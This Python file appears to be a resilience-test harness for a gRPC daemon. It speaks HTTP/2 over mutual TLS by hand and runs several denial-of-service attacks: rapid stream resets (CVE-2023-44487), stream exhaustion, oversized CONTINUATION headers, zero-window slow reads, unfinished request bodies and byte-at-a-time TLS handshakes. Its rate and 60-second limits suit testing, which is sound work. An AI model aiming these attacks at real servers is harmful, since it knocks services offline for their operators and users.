"""A client with a good certificate and bad manners: does argv[1] to the daemon at argv[2] until SIGTERM.

With argv[3], the directory of a `contain pki`, and argv[4], whose certificate to show. HTTP/2 (RFC 9113) by hand, as no library does
what is done here. Its standard error says `attacking` once it has begun, and at the end how much it did. Its load is bounded: by
argv[5] units a second, by the connections that it makes, and by 60 seconds."""

import signal
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)
LONGEST = 60
MOST_STREAMS = 1 << 30


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits):
    """An integer of HPACK with a prefix of so many bits (RFC 7541, section 5.1)."""
    if value < (1 << bits) - 1:
        return bytes([value])
    out = bytearray([(1 << bits) - 1])
    value -= (1 << bits) - 1
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def text(value):
    return integer(len(value), 7) + value


def literal(name, value):
    """A field that enters no table (RFC 7541, section 6.2.2)."""
    return b"\0" + text(name) + text(value)


def headers(method, more=b""):
    # POST and https are in the static table, and so is the name of :path.
    return (
        b"\x83\x87\x04"
        + text(b"/netprov.v1.NamespaceService/" + method)
        + literal(b":authority", b"netprov")
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
        + more
    )


LIST = headers(b"ListNamespaces")
# A message of no bytes, uncompressed.
EMPTY = b"\0\0\0\0\0"


class Connection:
    """One connection with TLS and HTTP/2, which forgets what it reads."""

    def __init__(self, target, context, window=65535):
        host, port = target.rsplit(":", 1)
        self.socket = context.wrap_socket(socket.create_connection((host, int(port))), server_hostname=host)
        self.socket.setblocking(False)
        self.stream = 1
        # SETTINGS_INITIAL_WINDOW_SIZE
        self.backlog = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + frame(SETTINGS, ACK, 0)
        self.gone = False

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def take(self, received):
        """What came."""

    def pump(self, reads=True):
        """Sends what waits and reads what came, as far as that goes at once."""
        try:
            while self.backlog:
                self.backlog = self.backlog[self.socket.send(self.backlog) :]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.gone = True
        try:
            while reads and not self.gone:
                received = self.socket.recv(65536)
                self.gone = not received
                self.take(received)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.gone = True


class Attack:
    """Some connections, each of which does a unit of something whenever it is its turn."""

    connections = 4
    window = 65535
    reads = True

    def __init__(self, target, context):
        self.target = target
        self.context = context
        self.done = 0
        self.lost = 0
        self.pool = [self.connect() for _ in range(self.connections)]

    def connect(self):
        return Connection(self.target, self.context, self.window)

    def unit(self, connection):
        raise NotImplementedError

    def turn(self):
        for i, connection in enumerate(self.pool):
            if connection.gone or connection.stream > MOST_STREAMS:
                self.lost += 1
                try:
                    connection = self.pool[i] = self.connect()
                except OSError:
                    continue
            # What does not go out is not heaped up.
            if len(connection.backlog) < 1 << 16:
                self.unit(connection)
                self.done += 1
            connection.pump(self.reads)


class Resets(Attack):
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""

    def unit(self, connection):
        stream = connection.next_stream()
        connection.backlog += (
            frame(HEADERS, END_HEADERS, stream, LIST) + frame(DATA, END_STREAM, stream, EMPTY) + frame(RST_STREAM, 0, stream, CANCEL)
        )


class Streams(Attack):
    """Calls whose request never comes, more of them than a connection may have."""

    connections = 16

    def unit(self, connection):
        connection.backlog += frame(HEADERS, END_HEADERS, connection.next_stream(), LIST)


class Headers(Attack):
    """Calls with 64 KiB of metadata."""

    LONG = LIST + b"".join(literal(b"x-%d" % i, b"a" * 1000) for i in range(64))

    def unit(self, connection):
        stream = connection.next_stream()
        parts = [self.LONG[i : i + 16384] for i in range(0, len(self.LONG), 16384)]
        out = frame(HEADERS, END_STREAM, stream, parts[0])
        for part in parts[1:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        connection.backlog += out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


class SlowReads(Attack):
    """Calls whose answers are not taken."""

    window = 0
    reads = False

    def unit(self, connection):
        stream = connection.next_stream()
        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST) + frame(DATA, END_STREAM, stream, EMPTY)


class Bodies(Attack):
    """Calls whose requests are as long as they may be, and lack their last byte."""

    connections = 8
    LENGTH = 1 << 20  # of a message, as the daemon takes it
    MOST = 256  # on a connection, as it allows

    def connect(self):
        return Sender(self.target, self.context)

    def unit(self, connection):
        if connection.stream > 2 * self.MOST:
            return connection.feed()
        stream = connection.next_stream()
        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST)
        # Five bytes of gRPC's own stand before the message.
        connection.owes[stream] = [b"\0" + struct.pack(">I", self.LENGTH), 5 + self.LENGTH - 1]
        connection.feed()


class Sender(Connection):
    """One that sends as much as it is let to (RFC 9113, section 5.2)."""

    CHUNK = bytes(16384)

    def __init__(self, target, context):
        super().__init__(target, context)
        self.owes = {}  # by stream: its first bytes, and how many there are to send with them
        self.initial = 65535
        self.room = 65535  # of the connection
        self.rooms = {}  # of each stream, more than the initial one
        self.heard = b""

    def feed(self):
        for stream, owed in list(self.owes.items()):
            while owed[1] > 0 and len(self.backlog) < 1 << 16:
                size = min(owed[1], len(self.CHUNK), self.room, self.initial + self.rooms.get(stream, 0))
                if size <= 0:
                    break
                part = (owed[0] + self.CHUNK)[:size]
                owed[0] = owed[0][size:]
                owed[1] -= size
                self.room -= size
                self.rooms[stream] = self.rooms.get(stream, 0) - size
                self.backlog += frame(DATA, 0, stream, part)
            if owed[1] == 0:
                del self.owes[stream]

    def take(self, received):
        self.heard += received
        while len(self.heard) >= 9:
            length = int.from_bytes(self.heard[:3], "big")
            if len(self.heard) < 9 + length:
                return
            kind, flags = self.heard[3], self.heard[4]
            stream = int.from_bytes(self.heard[5:9], "big") & 0x7FFFFFFF
            payload = self.heard[9 : 9 + length]
            self.heard = self.heard[9 + length :]
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream == 0:
                    self.room += more
                else:
                    self.rooms[stream] = self.rooms.get(stream, 0) + more
            elif kind == SETTINGS and not flags & ACK:
                for i in range(0, length, 6):
                    number, value = struct.unpack(">HI", payload[i : i + 6])
                    if number == 4:
                        self.initial = value
                self.backlog += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                self.backlog += frame(PING, ACK, 0, payload)
            elif kind == RST_STREAM:
                self.owes.pop(stream, None)


class Handshakes:
    """Connections that say a byte of their TLS handshake at a time."""

    HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    MOST = 100

    def __init__(self, target, context):
        host, port = target.rsplit(":", 1)
        self.address = (host, int(port))
        self.pool = []
        self.done = 0
        self.lost = 0

    def turn(self):
        if len(self.pool) < self.MOST:
            try:
                self.pool.append([socket.create_connection(self.address), 0])
            except OSError:
                self.lost += 1
            return
        entry = self.pool.pop(0)
        try:
            entry[0].send(self.HELLO[entry[1] : entry[1] + 1])
            entry[1] = min(entry[1] + 1, len(self.HELLO) - 1)
            self.pool.append(entry)
            self.done += 1
        except OSError:
            entry[0].close()
            self.lost += 1


ATTACKS = {
    "resets": Resets,
    "streams": Streams,
    "headers": Headers,
    "slow_reads": SlowReads,
    "bodies": Bodies,
    "handshakes": Handshakes,
}


def main():
    what, target, pki, name, rate = sys.argv[1:6]
    context = ssl.create_default_context(cafile=f"{pki}/ca.pem")
    context.load_cert_chain(f"{pki}/{name}.pem", f"{pki}/{name}-key.pem")
    context.set_alpn_protocols(["h2"])
    attack = ATTACKS[what](target, context)
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    print("attacking", file=sys.stderr, flush=True)
    begun = time.monotonic()
    turns = 0
    while not ended and time.monotonic() - begun < LONGEST:
        attack.turn()
        turns += 1
        units = turns * getattr(attack, "connections", 1)
        ahead = units / float(rate) - (time.monotonic() - begun)
        if ahead > 0:
            time.sleep(ahead)
    seconds = time.monotonic() - begun
    print(f"attack={what} units={attack.done} connections_lost={attack.lost} seconds={seconds:.1f}", file=sys.stderr)


if __name__ == "__main__":
    main()
